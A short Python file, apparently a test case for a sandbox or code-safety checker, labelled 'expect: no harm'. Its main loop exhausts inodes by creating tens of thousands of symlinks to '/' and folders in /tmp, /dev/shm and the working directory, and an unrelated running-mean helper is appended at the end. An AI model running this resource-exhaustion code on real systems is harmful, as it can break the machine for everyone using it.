"""Makes as many files, folders and links as it can, to use up the inodes."""
# expect: no harm
# %%
import os

for folder in ("/tmp", "/dev/shm", "."):
    try:
        for number in range(30_000):
            os.symlink("/", f"{folder}/link-{number}")
            os.mkdir(f"{folder}/folder-{number}")
    except OSError:
        pass


def running_mean(signal, window):
    return signal.unfold(0, window, 1).mean(dim=1)
